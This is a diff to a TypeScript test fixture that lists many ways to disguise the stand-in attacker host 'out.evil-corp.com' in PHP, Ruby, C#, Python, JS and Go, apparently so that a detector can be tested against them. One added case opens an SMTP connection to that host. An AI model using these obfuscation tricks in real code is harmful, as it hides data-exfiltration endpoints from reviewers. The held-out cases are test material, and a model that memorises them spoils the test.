@@ -189,6 +189,7 @@ export const shown: Readonly<Record<string, Files>> = {
   'php, urldecode': php(`urldecode('out%2Eevil-corp.com')`),
   'php, substr': php(`substr('xx${EVIL}yy', 2, -2)`),
   'php, sprintf': php(`sprintf('%s.%s.com', 'out', 'evil-corp')`),
+  'php, extract': php('$hop', `extract(['hop' => '${EVIL}']);\n`),
   'php, codes mapped': php(`implode('', array_map('chr', [${codes(EVIL)}]))`),
   'php, escapes': php(String.raw`"\x6fut\56evil-corp\u{2e}com"`),
   'php, a property in pieces': {
@@ -211,6 +212,7 @@ export const shown: Readonly<Record<string, Files>> = {
   'ruby, pack of codes': ruby(`[${codes(EVIL)}].pack('c*')`),
   'ruby, reverse': ruby(`'${reversed}'.reverse`),
   'ruby, join': ruby(`%w[out evil-corp com].join('.')`),
+  'ruby, a text between the items of a list': ruby(`%w[out evil-corp com] * '.'`),
   'ruby, tr': ruby(`'out_evil-corp_com'.tr('_', '.')`),
   'ruby, gsub': ruby(`'out_evil-corp_com'.gsub('_', '.')`),
   'ruby, chr': ruby(`111.chr + 'ut.evil-corp.com'`),
@@ -243,6 +245,7 @@ export const shown: Readonly<Record<string, Files>> = {
   'groovy, decodeBase64': groovy(`new String('${base64(EVIL)}'.decodeBase64())`),
   // .NET
   'c#, Convert': csharp(`Encoding.UTF8.GetString(Convert.FromBase64String("${base64(EVIL)}"))`),
+  'c#, a text of characters': csharp(`new string("${reversed}".Reverse().ToArray())`),
   'c#, Join': csharp(`string.Join(".", new[] { "out", "evil-corp", "com" })`),
   'c#, Concat': csharp(`string.Concat("out.", "evil-corp", ".com")`),
   'c#, Replace': csharp(`"out_evil-corp_com".Replace("_", ".")`),
@@ -363,6 +366,13 @@ export const hidden: Readonly<Record<string, Files>> = {
   'python, decompressed': python(`zlib.decompress(base64.b64decode("eJzLLy3RSy3LzNFNzi8q0EvOzwUANIAF8Q==")).decode()`),
   'php, gzinflate': php(`gzinflate(base64_decode('yy8t0Ustyyw11U3OLyrQS87PBQA='))`),
   'php, a map of replacements': php(`strtr('1.2-corp.com', ['1' => 'out', '2' => 'evil'])`),
+  'js, every second letter': js(`[...'ouuetm.dehvhill'].filter((_, i) => i % 2 === 0).join('')`),
+  'python, every second letter': python(`"ouuetm.dehvhill"[::2]`),
+  'python, a template': {
+    'app/m.py': `import smtplib\nfrom string import Template\nsmtplib.SMTP(Template("out.$d").substitute(d="evil-corp.com"), 25)\n`,
+  },
+  'php, serialized': php(`unserialize('a:1:{s:3:"hop";s:17:"${EVIL}";}')['hop']`),
+  'go, a replacer': go(`strings.NewReplacer("X", "evil").Replace("out.X-corp.com")`),
   'ruby, codes that are computed': ruby(`'ntu/dwhm'.bytes.map { |b| (b ^ 1).chr }.join`),
 };
 
